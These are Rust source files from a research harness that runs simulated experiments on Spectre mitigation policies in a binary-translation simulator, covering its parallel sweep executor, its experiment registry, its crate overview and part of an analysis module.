    baselines: Mutex<HashMap<String, BaselineSlot>>,
    baseline_sims: AtomicUsize,
    sims: AtomicUsize,
    translation_hits: AtomicU64,
    translation_misses: AtomicU64,
    /// Wall-clock span histogram for the simulate phase, resolved from the
    /// caller's registry (`None` outside the daemon). Timing never touches
    /// the report — only the operator-facing metrics exposition.
    simulate_seconds: Option<Arc<Histogram>>,
}

impl SweepContext {
    fn new(
        service: Arc<TranslationService>,
        memo: Option<Arc<RunMemo>>,
        metrics: Option<&Arc<MetricsRegistry>>,
    ) -> SweepContext {
        SweepContext {
            service,
            memo,
            baselines: Mutex::new(HashMap::new()),
            baseline_sims: AtomicUsize::new(0),
            sims: AtomicUsize::new(0),
            translation_hits: AtomicU64::new(0),
            translation_misses: AtomicU64::new(0),
            simulate_seconds: metrics.map(|registry| {
                registry.histogram_with(
                    LAB_PHASE_FAMILY,
                    "Wall-clock executor phase timings.",
                    DEFAULT_LATENCY_BOUNDS_MICROS,
                    &[("phase", "simulate")],
                )
            }),
        }
    }

    /// Folds one finished session's translation counters into the sweep's.
    ///
    /// The sweep report attributes only the queries *this sweep's sessions*
    /// issued (summed from each engine's own counters), so sharing the
    /// service with other concurrent users never inflates these numbers.
    fn record_translations(&self, session: &Session) {
        let stats = session.engine().stats();
        self.translation_hits.fetch_add(stats.service_hits, Ordering::SeqCst);
        self.translation_misses.fetch_add(stats.service_misses, Ordering::SeqCst);
    }

    /// Runs `program` under `config` through a [`Session`] attached to the
    /// sweep's shared translation service.
    ///
    /// When the context carries a [`RunMemo`], the whole run is looked up
    /// under its content address first — a repeated identical scenario is
    /// answered from the memo without building a session at all (so memo
    /// hits contribute neither simulations nor translation queries to the
    /// sweep's counters). `secret_len` asks for the guest's `recovered`
    /// symbol to be read back after the run, so attack observables are
    /// part of the cached value whatever kind of job populated the entry.
    ///
    /// `is_baseline` tags the simulation for the `baseline_simulations`
    /// counter; it is counted inside the closure so that, like `sims`, it
    /// records simulations that actually ran (never memo hits).
    fn simulate(
        &self,
        program: &dbt_riscv::Program,
        config: dbt_platform::PlatformConfig,
        secret_len: Option<usize>,
        is_baseline: bool,
    ) -> Result<CachedRun, String> {
        let run = || {
            // The span times only simulations that actually run: memo hits
            // never enter this closure, so the histogram's count stays in
            // lockstep with the `simulations` counter. The stage span
            // feeds the same wall-clock reading into the request's trace
            // when one is being recorded (inert otherwise).
            let _span = self.simulate_seconds.as_ref().map(Span::on);
            let _stage = StageSpan::enter("simulate");
            self.sims.fetch_add(1, Ordering::SeqCst);
            if is_baseline {
                self.baseline_sims.fetch_add(1, Ordering::SeqCst);
            }
            let mut session = Session::builder()
                .program(program)
                .config(config)
                .service(&self.service)
                .build()
                .map_err(|e| e.to_string())?;
            let summary = session.run().map_err(|e| e.to_string())?;
            self.record_translations(&session);
            let recovered = match secret_len {
                Some(len) => {
                    Some(session.load_symbol_bytes("recovered", len).map_err(|e| e.to_string())?)
                }
                None => None,
            };
            Ok(CachedRun {
                summary,
                patterns: session.engine().mitigation_summary().patterns,
                recovered,
            })
        };
        match &self.memo {
            Some(memo) => memo.get_or_run(RunKey::new(program, &config), run),
            None => run(),
        }
    }

    /// Returns the memoized unprotected baseline for `key`, simulating it
    /// (once, sweep-wide) if it is not cached yet.
    fn baseline(
        &self,
        key: String,
        simulate: impl FnOnce() -> Result<CachedRun, String>,
    ) -> Result<CachedRun, String> {
        let slot =
            self.baselines.lock().expect("baseline cache poisoned").entry(key).or_default().clone();
        slot.get_or_init(simulate).clone()
    }
}

fn run_job(scenario: &Scenario, ctx: &SweepContext) -> JobOutcome {
    let program = match scenario.program.build() {
        Ok(p) => p,
        Err(e) => return JobOutcome::Failed { error: e },
    };
    let config = scenario.platform.overrides.apply(scenario.policy);
    // Attack programs carry their recovered bytes through every run —
    // including perf runs — so a memo entry populated by either job kind
    // serves both.
    let secret_len = scenario.program.secret().map(<[u8]>::len);
    match scenario.kind {
        ScenarioKind::Perf => {
            let baseline = ctx.baseline(scenario.baseline_key(), || {
                ctx.simulate(
                    &program,
                    scenario.platform.overrides.apply(MitigationPolicy::Unprotected),
                    secret_len,
                    true,
                )
            });
            let baseline = match baseline {
                Ok(b) => b,
                Err(e) => return JobOutcome::Failed { error: format!("baseline: {e}") },
            };
            let run = if scenario.policy == MitigationPolicy::Unprotected {
                baseline.clone()
            } else {
                match ctx.simulate(&program, config, secret_len, false) {
                    Ok(r) => r,
                    Err(e) => return JobOutcome::Failed { error: e },
                }
            };
            JobOutcome::Perf(PerfMetrics {
                cycles: run.summary.cycles,
                baseline_cycles: baseline.summary.cycles,
                rollbacks: run.summary.rollbacks,
                guest_insts: run.summary.guest_insts,
                patterns: run.patterns,
            })
        }
        ScenarioKind::Attack => {
            let Some(secret) = scenario.program.secret().map(<[u8]>::to_vec) else {
                return JobOutcome::Failed {
                    error: format!("`{}` is not an attack program", scenario.program_label),
                };
            };
            match ctx.simulate(&program, config, Some(secret.len()), false) {
                Ok(run) => JobOutcome::Attack(AttackMetrics {
                    secret,
                    recovered: run.recovered.unwrap_or_default(),
                    cycles: run.summary.cycles,
                    rollbacks: run.summary.rollbacks,
                    patterns: run.patterns,
                }),
                Err(error) => JobOutcome::Failed { error },
            }
        }
    }
}

/// Runs `scenarios` on a worker pool and returns the report in expansion
/// order, with a fresh per-sweep [`TranslationService`].
///
/// Output is deterministic: the same scenario list produces the same report
/// (and therefore byte-identical JSON) for any worker count — including
/// the translation hit/miss counters, since every translation resolves
/// exactly once sweep-wide.
pub fn run_sweep(sweep: &str, scenarios: &[Scenario], opts: ExecOptions) -> LabReport {
    run_sweep_with(sweep, scenarios, opts, &TranslationService::new())
}

/// [`run_sweep`] against a caller-provided [`TranslationService`], so
/// several sweeps (or repeated invocations) can share one memo.
///
/// The report's translation counters cover exactly the queries issued by
/// *this sweep's sessions* (summed from each engine's own counters, never
/// read off the shared service's globals — another concurrent user of the
/// service cannot inflate them). Against a pre-warmed service they shift
/// towards hits, while cycle counts and recovery rates stay identical —
/// memoized translations are pure functions of the same inputs a fresh
/// compile would see.
pub fn run_sweep_with(
    sweep: &str,
    scenarios: &[Scenario],
    opts: ExecOptions,
    service: &Arc<TranslationService>,
) -> LabReport {
    run_sweep_memo(sweep, scenarios, opts, service, None)
}

/// [`run_sweep_with`] plus an optional content-addressed [`RunMemo`]: with
/// a memo attached, every simulation is looked up under its
/// `(program fingerprint, config fingerprint)` address first, so a
/// scenario that an earlier sweep (or an earlier daemon request) already
/// ran is answered without simulating — or even translating — anything.
///
/// Memo hits change only the *counters* of the report (`simulations` and
/// the translation hit/miss pair shrink, since no session runs); the cycle
/// data, recovery rates and every other observable are byte-identical to a
/// memo-less run, because the platform is a deterministic simulator and
/// the memo key covers every input it reads. This is the executor the
/// `dbt-serve` daemon drives.
pub fn run_sweep_memo(
    sweep: &str,
    scenarios: &[Scenario],
    opts: ExecOptions,
    service: &Arc<TranslationService>,
    memo: Option<&Arc<RunMemo>>,
) -> LabReport {
    run_sweep_obs(sweep, scenarios, opts, service, memo, None)
}

/// [`run_sweep_memo`] plus an optional [`MetricsRegistry`]: with a registry
/// attached, every simulation that actually runs (never a memo hit) is
/// timed into a `dbt_lab_phase_seconds{phase="simulate"}` histogram. The
/// timing is observation only — reports stay byte-identical with or
/// without it.
pub fn run_sweep_obs(
    sweep: &str,
    scenarios: &[Scenario],
    opts: ExecOptions,
    service: &Arc<TranslationService>,
    memo: Option<&Arc<RunMemo>>,
    metrics: Option<&Arc<MetricsRegistry>>,
) -> LabReport {
    let jobs = scenarios.len();
    let threads = opts.effective_threads(jobs);
    let ctx = SweepContext::new(Arc::clone(service), memo.map(Arc::clone), metrics);
    let next = AtomicUsize::new(0);
    let mut slots: Vec<Option<JobResult>> = Vec::new();
    slots.resize_with(jobs, || None);
    let slots = Mutex::new(slots);
    // Jobs run on scoped worker threads, not the calling thread: capture
    // the caller's ambient trace context (the daemon worker's, when this
    // sweep serves a traced request) and re-enter it per worker so the
    // `simulate`/`translate.*` stage spans keep landing in that trace.
    let trace = TraceHandle::current();

    std::thread::scope(|scope| {
        for _ in 0..threads {
            scope.spawn(|| {
                let _trace_scope = trace.as_ref().map(TraceHandle::enter);
                loop {
                    let i = next.fetch_add(1, Ordering::SeqCst);
                    if i >= jobs {
                        break;
                    }
                    let scenario = &scenarios[i];
                    let outcome = run_job(scenario, &ctx);
                    if opts.verbose {
                        eprintln!("[lab] {} done", scenario.name);
                    }
                    slots.lock().expect("result slots poisoned")[i] =
                        Some(JobResult { scenario: scenario.clone(), outcome });
                }
            });
        }
    });

    let results: Vec<JobResult> = slots
        .into_inner()
        .expect("result slots poisoned")
        .into_iter()
        .map(|r| r.expect("every job slot must be filled"))
        .collect();
    LabReport {
        sweep: sweep.to_string(),
        results,
        stats: ExecStats {
            jobs,
            simulations: ctx.sims.load(Ordering::SeqCst),
            baseline_simulations: ctx.baseline_sims.load(Ordering::SeqCst),
            translation_hits: ctx.translation_hits.load(Ordering::SeqCst),
            translation_misses: ctx.translation_misses.load(Ordering::SeqCst),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::registry::Sweep;
    use crate::scenario::ProgramSpec;
    use dbt_workloads::WorkloadSize;

    fn tiny_sweep() -> Sweep {
        Sweep::new("tiny", "two kernels under every policy", ScenarioKind::Perf)
            .program("gemm", ProgramSpec::Workload { name: "gemm", size: WorkloadSize::Mini })
            .program("atax", ProgramSpec::Workload { name: "atax", size: WorkloadSize::Mini })
    }

    #[test]
    fn baseline_is_simulated_once_per_program() {
        let scenarios = tiny_sweep().expand();
        let report = run_sweep("tiny", &scenarios, ExecOptions { threads: 4, verbose: false });
        assert_eq!(report.stats.jobs, 10);
        // 2 programs ⇒ 2 baselines; the 2×4 protected runs add one
        // simulation each; the 2 unprotected jobs reuse the cached baseline.
        assert_eq!(report.stats.baseline_simulations, 2);
        assert_eq!(report.stats.simulations, 10);
        // The shared translation service pays off even across policies:
        // first-pass translations (and superblock analyses under equal
        // speculation options) are policy-independent, so later runs of the
        // same program hit the memo.
        assert!(report.stats.translation_hits > 0, "{:?}", report.stats);
        assert!(report.stats.translation_misses > 0, "{:?}", report.stats);
    }

    #[test]
    fn report_order_is_expansion_order_for_any_worker_count() {
        let scenarios = tiny_sweep().expand();
        let serial = run_sweep("tiny", &scenarios, ExecOptions { threads: 1, verbose: false });
        let parallel = run_sweep("tiny", &scenarios, ExecOptions { threads: 4, verbose: false });
        assert_eq!(serial.results, parallel.results);
        for (slot, scenario) in serial.results.iter().zip(&scenarios) {
            assert_eq!(&slot.scenario, scenario);
        }
    }

    #[test]
    fn unprotected_rows_have_unit_slowdown() {
        let scenarios = tiny_sweep().expand();
        let report = run_sweep("tiny", &scenarios, ExecOptions::default());
        for result in &report.results {
            let JobOutcome::Perf(metrics) = &result.outcome else {
                panic!("{}: expected perf outcome", result.scenario.name);
            };
            if result.scenario.policy == MitigationPolicy::Unprotected {
                assert_eq!(metrics.cycles, metrics.baseline_cycles);
                assert!((metrics.slowdown() - 1.0).abs() < 1e-12);
            } else {
                assert!(metrics.slowdown() >= 1.0 - 1e-9, "{}", result.scenario.name);
            }
        }
    }

    #[test]
    fn a_shared_run_memo_answers_repeated_sweeps_without_simulating() {
        let scenarios = tiny_sweep().expand();
        let service = TranslationService::new();
        let memo = RunMemo::new();
        let opts = ExecOptions { threads: 4, verbose: false };
        let first = run_sweep_memo("tiny", &scenarios, opts, &service, Some(&memo));
        let cold = memo.stats();
        assert_eq!(cold.hits, 0, "distinct scenarios cannot hit a cold memo");
        assert_eq!(cold.misses, first.stats.simulations as u64, "one entry per simulation");

        let second = run_sweep_memo("tiny", &scenarios, opts, &service, Some(&memo));
        assert_eq!(first.results, second.results, "memo hits must not change observables");
        assert_eq!(second.stats.simulations, 0, "every run was answered from the memo");
        assert_eq!(
            second.stats.translation_hits + second.stats.translation_misses,
            0,
            "memo hits never build a session, so no translation queries at all"
        );
        let warm = memo.stats();
        assert_eq!(warm.misses, cold.misses, "nothing new to simulate");
        assert_eq!(warm.hits, cold.misses, "same ask list, now fully cached");

        // The memo-less report of the same job list agrees on every
        // observable (only the counters differ).
        let fresh = run_sweep("tiny", &scenarios, opts);
        assert_eq!(fresh.results, first.results);
    }

    #[test]
    fn an_attached_registry_times_exactly_the_simulations_that_ran() {
        let scenarios = tiny_sweep().expand();
        let service = TranslationService::new();
        let memo = RunMemo::new();
        let registry = MetricsRegistry::new();
        let opts = ExecOptions { threads: 2, verbose: false };
        let timed = run_sweep_obs("tiny", &scenarios, opts, &service, Some(&memo), Some(&registry));
        let histogram = registry.histogram_with(
            LAB_PHASE_FAMILY,
            "Wall-clock executor phase timings.",
            DEFAULT_LATENCY_BOUNDS_MICROS,
            &[("phase", "simulate")],
        );
        assert_eq!(histogram.count(), timed.stats.simulations as u64);

        let warm = run_sweep_obs("tiny", &scenarios, opts, &service, Some(&memo), Some(&registry));
        assert_eq!(warm.stats.simulations, 0, "the repeat is answered from the memo");
        assert_eq!(
            histogram.count(),
            timed.stats.simulations as u64,
            "memo hits never enter the simulate span"
        );

        let plain = run_sweep("tiny", &scenarios, opts);
        assert_eq!(plain.results, timed.results, "timing must not perturb observables");
    }

    #[test]
    fn broken_jobs_fail_soft() {
        let scenarios = Sweep::new("broken", "unknown kernel", ScenarioKind::Perf)
            .program("nope", ProgramSpec::Workload { name: "nope", size: WorkloadSize::Mini })
            .expand();
        let report = run_sweep("broken", &scenarios, ExecOptions::default());
        assert_eq!(report.results.len(), 5);
        for result in &report.results {
            assert!(matches!(result.outcome, JobOutcome::Failed { .. }));
        }
    }
}
