//! Sweep declarations and the registry of the paper's experiments.
//!
//! A [`Sweep`] is a cartesian product — programs × policies × platform
//! variants — that [`Sweep::expand`] turns into concrete [`Scenario`] jobs.
//! [`Registry::standard`] declares every experiment of the paper's
//! evaluation; the legacy `dbt-bench` binaries are thin views over it.

use crate::scenario::{
    AttackVariant, PlatformOverrides, PlatformVariant, ProgramSpec, Scenario, ScenarioKind,
};
use dbt_workloads::{suite, WorkloadSize};
use ghostbusters::MitigationPolicy;

/// The secret planted in the attack proof-of-concepts, as in the paper's
/// artifact.
pub const DEFAULT_SECRET: &[u8] = b"GhostBusters";

/// One entry on a sweep's program axis.
#[derive(Debug, Clone)]
pub struct SweepProgram {
    /// Row label.
    pub label: String,
    /// How to build the guest program.
    pub spec: ProgramSpec,
    /// Per-program measurement override; `None` inherits the sweep's kind.
    /// This is what lets one sweep mix slowdown rows (workloads) with
    /// secret-recovery rows (the attack programs).
    pub kind: Option<ScenarioKind>,
}

/// A declarative cartesian sweep.
#[derive(Debug, Clone)]
pub struct Sweep {
    /// Unique sweep name (also the JSON artifact name, `BENCH_<name>.json`).
    pub name: String,
    /// One-line description shown by `lab list`.
    pub description: String,
    /// What the expanded scenarios measure (per-program overrides allowed).
    pub kind: ScenarioKind,
    /// Program axis.
    pub programs: Vec<SweepProgram>,
    /// Policy axis.
    pub policies: Vec<MitigationPolicy>,
    /// Platform axis.
    pub platforms: Vec<PlatformVariant>,
}

impl Sweep {
    /// Creates a sweep over the default platform.
    pub fn new(name: &str, description: &str, kind: ScenarioKind) -> Sweep {
        Sweep {
            name: name.to_string(),
            description: description.to_string(),
            kind,
            programs: Vec::new(),
            policies: MitigationPolicy::ALL.to_vec(),
            platforms: vec![PlatformVariant::default_platform()],
        }
    }

    /// Adds one program to the program axis, measured as the sweep's kind.
    pub fn program(mut self, label: &str, spec: ProgramSpec) -> Sweep {
        self.programs.push(SweepProgram { label: label.to_string(), spec, kind: None });
        self
    }

    /// Adds one program measured as `kind`, overriding the sweep's kind.
    pub fn program_as(mut self, label: &str, spec: ProgramSpec, kind: ScenarioKind) -> Sweep {
        self.programs.push(SweepProgram { label: label.to_string(), spec, kind: Some(kind) });
        self
    }

    /// Replaces the policy axis.
    pub fn policies(mut self, policies: &[MitigationPolicy]) -> Sweep {
        self.policies = policies.to_vec();
        self
    }

    /// Replaces the platform axis.
    pub fn platforms(mut self, platforms: Vec<PlatformVariant>) -> Sweep {
        self.platforms = platforms;
        self
    }

    /// Number of concrete jobs this sweep expands to.
    pub fn job_count(&self) -> usize {
        self.programs.len() * self.policies.len() * self.platforms.len()
    }

    /// Expands the cartesian product into concrete jobs.
    ///
    /// The order is deterministic and program-major (program, then platform,
    /// then policy), so tables group naturally by row.
    pub fn expand(&self) -> Vec<Scenario> {
        let mut jobs = Vec::with_capacity(self.job_count());
        for program in &self.programs {
            for platform in &self.platforms {
                for &policy in &self.policies {
                    jobs.push(Scenario {
                        name: format!(
                            "{}/{}/{}/{}",
                            self.name,
                            program.label,
                            policy.label(),
                            platform.name
                        ),
                        program_label: program.label.clone(),
                        program: program.spec.clone(),
                        policy,
                        platform: platform.clone(),
                        kind: program.kind.unwrap_or(self.kind),
                    });
                }
            }
        }
        jobs
    }
}

/// The set of declared sweeps.
#[derive(Debug, Clone)]
pub struct Registry {
    sweeps: Vec<Sweep>,
}

impl Registry {
    /// A registry with no sweeps (build your own with [`Registry::push`]).
    pub fn empty() -> Registry {
        Registry { sweeps: Vec::new() }
    }

    /// Adds a sweep.
    pub fn push(&mut self, sweep: Sweep) {
        self.sweeps.push(sweep);
    }

    /// Every experiment of the paper's evaluation, at problem size `size`:
    ///
    /// * `figure4` — per-kernel slowdown of every policy (plus the two
    ///   attack programs measured as workloads, as in the paper's figure);
    /// * `attack-table` — Section V-A: secret recovery of both Spectre
    ///   variants under every policy;
    /// * `ptr-matmul` — the pointer-array matmul experiment (fine-grained
    ///   vs fence when the Spectre pattern sits in the hot loop);
    /// * `ablation` — contribution of each speculation mechanism
    ///   (platform-axis sweep over the speculation toggles);
    /// * `issue-width` — scaling of the countermeasure cost with the VLIW
    ///   issue width (platform-axis sweep);
    /// * `selective-vs-blanket` — the `spectaint` extension: every workload
    ///   plus both attack programs under every policy, showing that the
    ///   verdict-gated `selective` policy blocks both attacks while beating
    ///   the blanket fine-grained mitigation on leak-free kernels.
    pub fn standard(size: WorkloadSize) -> Registry {
        let mut registry = Registry::empty();

        let mut figure4 = Sweep::new(
            "figure4",
            "Figure 4: slowdown vs unsafe execution, per kernel and policy",
            ScenarioKind::Perf,
        );
        for workload in suite(size) {
            figure4 =
                figure4.program(workload.name, ProgramSpec::Workload { name: workload.name, size });
        }
        for variant in [AttackVariant::SpectreV1, AttackVariant::SpectreV4] {
            figure4 = figure4.program(
                variant.label(),
                ProgramSpec::Attack { variant, secret: DEFAULT_SECRET.to_vec() },
            );
        }
        registry.push(figure4);

        let mut attack_table = Sweep::new(
            "attack-table",
            "Section V-A: secret recovery of both Spectre variants under every policy",
            ScenarioKind::Attack,
        );
        for variant in [AttackVariant::SpectreV1, AttackVariant::SpectreV4] {
            attack_table = attack_table.program(
                variant.label(),
                ProgramSpec::Attack { variant, secret: DEFAULT_SECRET.to_vec() },
            );
        }
        registry.push(attack_table);

        registry.push(
            Sweep::new(
                "ptr-matmul",
                "Pointer-array matmul: countermeasure cost when the Spectre pattern is hot",
                ScenarioKind::Perf,
            )
            .program("gemm (flat)", ProgramSpec::Workload { name: "gemm", size })
            .program("gemm (ptr rows)", ProgramSpec::PointerMatmul { size }),
        );

        let mut ablation = Sweep::new(
            "ablation",
            "Contribution of each speculation mechanism (branch / memory / both off)",
            ScenarioKind::Perf,
        )
        .policies(&[MitigationPolicy::Unprotected])
        .platforms(vec![
            PlatformVariant::default_platform(),
            PlatformVariant::new(
                "no-branch-spec",
                PlatformOverrides { branch_speculation: Some(false), ..Default::default() },
            ),
            PlatformVariant::new(
                "no-memory-spec",
                PlatformOverrides { memory_speculation: Some(false), ..Default::default() },
            ),
            PlatformVariant::new(
                "no-spec",
                PlatformOverrides {
                    branch_speculation: Some(false),
                    memory_speculation: Some(false),
                    ..Default::default()
                },
            ),
        ]);
        for workload in suite(size) {
            ablation = ablation
                .program(workload.name, ProgramSpec::Workload { name: workload.name, size });
        }
        registry.push(ablation);

        registry.push(
            Sweep::new(
                "issue-width",
                "Countermeasure cost across VLIW issue widths (2/4/8-wide)",
                ScenarioKind::Perf,
            )
            .program("gemm", ProgramSpec::Workload { name: "gemm", size })
            .program("atax", ProgramSpec::Workload { name: "atax", size })
            .platforms(
                [2usize, 4, 8]
                    .iter()
                    .map(|&w| {
                        PlatformVariant::new(
                            &format!("issue-{w}"),
                            PlatformOverrides { issue_width: Some(w), ..Default::default() },
                        )
                    })
                    .collect(),
            ),
        );

        let mut selective = Sweep::new(
            "selective-vs-blanket",
            "Selective (taint-verdict gated) vs blanket mitigations: \
             slowdowns on leak-free workloads, secret recovery on both attacks",
            ScenarioKind::Perf,
        );
        for workload in suite(size) {
            selective = selective
                .program(workload.name, ProgramSpec::Workload { name: workload.name, size });
        }
        selective = selective.program("ptr-matmul", ProgramSpec::PointerMatmul { size });
        for variant in [AttackVariant::SpectreV1, AttackVariant::SpectreV4] {
            selective = selective.program_as(
                variant.label(),
                ProgramSpec::Attack { variant, secret: DEFAULT_SECRET.to_vec() },
                ScenarioKind::Attack,
            );
        }
        registry.push(selective);

        registry
    }

    /// All declared sweeps, in declaration order.
    pub fn sweeps(&self) -> &[Sweep] {
        &self.sweeps
    }

    /// Looks a sweep up by name.
    pub fn find(&self, name: &str) -> Option<&Sweep> {
        self.sweeps.iter().find(|s| s.name == name)
    }

    /// Expands every sweep, in declaration order.
    pub fn all_scenarios(&self) -> Vec<Scenario> {
        self.sweeps.iter().flat_map(Sweep::expand).collect()
    }

    /// Finds one concrete scenario by its full name
    /// (`sweep/program/policy/platform`).
    pub fn find_scenario(&self, name: &str) -> Option<Scenario> {
        self.all_scenarios().into_iter().find(|s| s.name == name)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn expansion_is_program_major_and_complete() {
        let sweep = Sweep::new("t", "test", ScenarioKind::Perf)
            .program("a", ProgramSpec::Workload { name: "gemm", size: WorkloadSize::Mini })
            .program("b", ProgramSpec::Workload { name: "atax", size: WorkloadSize::Mini });
        let jobs = sweep.expand();
        assert_eq!(jobs.len(), sweep.job_count());
        assert_eq!(jobs.len(), 10);
        assert_eq!(jobs[0].name, "t/a/unsafe/default");
        assert_eq!(jobs[1].name, "t/a/selective/default");
        assert_eq!(jobs[4].name, "t/a/no-speculation/default");
        assert_eq!(jobs[5].name, "t/b/unsafe/default");
        let names: std::collections::BTreeSet<_> = jobs.iter().map(|j| j.name.clone()).collect();
        assert_eq!(names.len(), jobs.len(), "scenario names must be unique");
    }

    #[test]
    fn standard_registry_matches_the_paper_artifacts() {
        let registry = Registry::standard(WorkloadSize::Mini);
        let names: Vec<_> = registry.sweeps().iter().map(|s| s.name.as_str()).collect();
        assert_eq!(
            names,
            [
                "figure4",
                "attack-table",
                "ptr-matmul",
                "ablation",
                "issue-width",
                "selective-vs-blanket"
            ]
        );
        // ≥ 6 workloads × every policy plus both attacks × every policy.
        assert!(registry.find("figure4").unwrap().job_count() >= 30);
        assert_eq!(registry.find("attack-table").unwrap().job_count(), 10);
        assert_eq!(registry.find("ablation").unwrap().platforms.len(), 4);
        let all = registry.all_scenarios();
        let names: std::collections::BTreeSet<_> = all.iter().map(|s| s.name.clone()).collect();
        assert_eq!(names.len(), all.len(), "scenario names must be unique across sweeps");
    }

    #[test]
    fn selective_sweep_mixes_perf_workloads_with_attack_rows() {
        let registry = Registry::standard(WorkloadSize::Mini);
        let sweep = registry.find("selective-vs-blanket").unwrap();
        assert_eq!(sweep.policies, MitigationPolicy::ALL.to_vec());
        let jobs = sweep.expand();
        let perf = jobs.iter().filter(|j| j.kind == ScenarioKind::Perf).count();
        let attack = jobs.iter().filter(|j| j.kind == ScenarioKind::Attack).count();
        assert_eq!(attack, 2 * MitigationPolicy::ALL.len(), "both attacks under every policy");
        assert!(perf >= 14 * MitigationPolicy::ALL.len(), "all suite kernels plus ptr-matmul");
        // The new leak-free-but-flagged kernels ride in this sweep.
        for name in ["histogram", "stream-lut"] {
            assert!(jobs.iter().any(|j| j.program_label == name), "{name} missing");
        }
    }

    #[test]
    fn scenarios_are_addressable_by_name() {
        let registry = Registry::standard(WorkloadSize::Mini);
        let scenario = registry.find_scenario("figure4/gemm/our-approach/default").unwrap();
        assert_eq!(scenario.policy, MitigationPolicy::FineGrained);
        assert!(registry.find_scenario("no/such/scenario").is_none());
    }
}
