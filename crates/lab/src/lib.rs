//! **dbt-lab** — the declarative, parallel scenario-sweep engine that
//! drives every experiment in the GhostBusters reproduction.
//!
//! The paper's evaluation consists of four artifacts (attack table,
//! Figure-4 slowdowns, pointer matmul, speculation ablation). Instead of
//! four serial one-off binaries, each artifact is declared here as a
//! [`Sweep`] — a cartesian product of programs × mitigation policies ×
//! platform variants — and executed by a multi-threaded work-queue
//! executor:
//!
//! * [`scenario`] — the model: [`ProgramSpec`] (what to build),
//!   [`PlatformOverrides`] (what machine to simulate), [`Scenario`]
//!   (one concrete job);
//! * [`registry`] — [`Registry::standard`] declares the paper's sweeps;
//!   new experiments are new declarations, not new binaries;
//! * [`exec`] — [`run_sweep`] fans jobs out over `std::thread::scope`
//!   workers with deterministic output ordering; every job runs through a
//!   [`dbt_platform::Session`] attached to one shared
//!   [`TranslationService`], so each workload's unprotected baseline is
//!   simulated exactly once and each distinct translation is compiled
//!   exactly once per sweep (the hit/miss counters land in the JSON);
//! * [`json`] — stable, dependency-free JSON (`BENCH_<sweep>.json`)
//!   suitable for diffing across PRs;
//! * [`daemon`] — the [`LabDaemon`] backend behind `lab serve`: one
//!   process-wide [`TranslationService`] plus a content-addressed
//!   [`RunMemo`] of whole run summaries, shared by every request the
//!   `dbt-serve` worker pool executes; the daemon carries its own
//!   `dbt-obs` registry (phase timings plus mirrored cache counters)
//!   that the `metrics` op renders as Prometheus text;
//! * [`profile`] — `lab profile`: the deterministic hot-path profile of
//!   one program (per-phase cycle attribution, speculation events,
//!   Chrome-trace export), byte-stable run to run;
//! * [`mod@bench`] — `lab bench`: the simulator-throughput microbenchmark
//!   behind the `BENCH_sim-throughput.json` artifact (deterministic
//!   cycle data, clearly-separated wall-clock throughput lines);
//! * [`table`] — the human-readable tables of the paper (Figure 4 layout,
//!   Section V-A attack table).
//!
//! # Example
//!
//! ```
//! use dbt_lab::{run_sweep, ExecOptions, ProgramSpec, ScenarioKind, Sweep};
//! use dbt_workloads::WorkloadSize;
//!
//! let sweep = Sweep::new("demo", "one kernel, every policy", ScenarioKind::Perf)
//!     .program("gemm", ProgramSpec::Workload { name: "gemm", size: WorkloadSize::Mini });
//! let report = run_sweep(&sweep.name, &sweep.expand(), ExecOptions::default());
//! assert_eq!(report.results.len(), 5);
//! assert_eq!(report.stats.baseline_simulations, 1);
//! println!("{}", report.to_json());
//! ```

pub mod analyze;
pub mod bench;
pub mod daemon;
pub mod exec;
pub mod json;
pub mod profile;
pub mod registry;
pub mod scenario;
pub mod table;

pub use analyze::{analyze_built, analyze_program, resolve_program, AnalyzeReport, BlockAnalysis};
pub use bench::{run_bench, BenchReport, BenchRow};
pub use daemon::{adhoc_scenario, strip_stats, LabDaemon};
pub use dbt_platform::{
    MemoStats, ProgramRef, ProgramStore, RunMemo, ServiceStats, StoreStats, TranslationService,
};
pub use exec::{
    run_sweep, run_sweep_memo, run_sweep_obs, run_sweep_with, AttackMetrics, ExecOptions,
    ExecStats, JobOutcome, JobResult, LabReport, PerfMetrics, LAB_PHASE_FAMILY,
};
pub use profile::{canonical_label, profile_built, profile_program, ProfileOutput};
pub use registry::{Registry, Sweep, SweepProgram, DEFAULT_SECRET};
pub use scenario::{
    AttackVariant, PlatformOverrides, PlatformVariant, ProgramSpec, Scenario, ScenarioKind,
    SourceKind,
};
pub use table::{
    format_attack_table, format_table, format_variant_table, geometric_mean, measure_slowdowns,
    SlowdownRow, SlowdownTable,
};
