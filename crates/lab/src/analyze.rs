//! `lab analyze`: run a program once on the unprotected platform, collect
//! the per-block leakage verdicts the DBT engine cached during translation,
//! and render them for humans (`Display`), machines (`--json`) or eyeballs
//! (`--dot`, Graphviz with the taint overlay).

use crate::registry::DEFAULT_SECRET;
use crate::scenario::{AttackVariant, ProgramSpec};
use dbt_ir::{dot, DepGraph, TaintOverlay};
use dbt_platform::{PlatformConfig, Session};
use dbt_workloads::WorkloadSize;
use ghostbusters::MitigationPolicy;
use spectaint::LeakageVerdict;
use std::fmt;
use std::sync::Arc;

/// The analysis of one optimised (speculating) translation.
#[derive(Debug, Clone)]
pub struct BlockAnalysis {
    /// Guest entry address of the block.
    pub entry_pc: u64,
    /// The verdict the engine cached at translation time.
    pub verdict: Arc<LeakageVerdict>,
    /// Graphviz rendering of the translation-time IR block with the taint
    /// overlay applied.
    pub dot: String,
}

/// Per-block verdicts of one program.
#[derive(Debug, Clone)]
pub struct AnalyzeReport {
    /// The analysed program's label.
    pub program: String,
    /// One entry per optimised translation, sorted by entry address.
    pub blocks: Vec<BlockAnalysis>,
}

/// Resolves a program label (`workload name`, `ptr-matmul`, `spectre-v1`,
/// `spectre-v4`) into a buildable spec.
///
/// # Errors
///
/// Returns a human-readable message naming the valid labels.
pub fn resolve_program(label: &str, size: WorkloadSize) -> Result<ProgramSpec, String> {
    match label {
        "ptr-matmul" => Ok(ProgramSpec::PointerMatmul { size }),
        "spectre-v1" => Ok(ProgramSpec::Attack {
            variant: AttackVariant::SpectreV1,
            secret: DEFAULT_SECRET.to_vec(),
        }),
        "spectre-v4" => Ok(ProgramSpec::Attack {
            variant: AttackVariant::SpectreV4,
            secret: DEFAULT_SECRET.to_vec(),
        }),
        name => Ok(ProgramSpec::Workload { name: suite_name(name)?, size }),
    }
}

/// Maps a user-supplied workload name onto the suite's `&'static str` name
/// (names only — no guest program is assembled for validation).
fn suite_name(name: &str) -> Result<&'static str, String> {
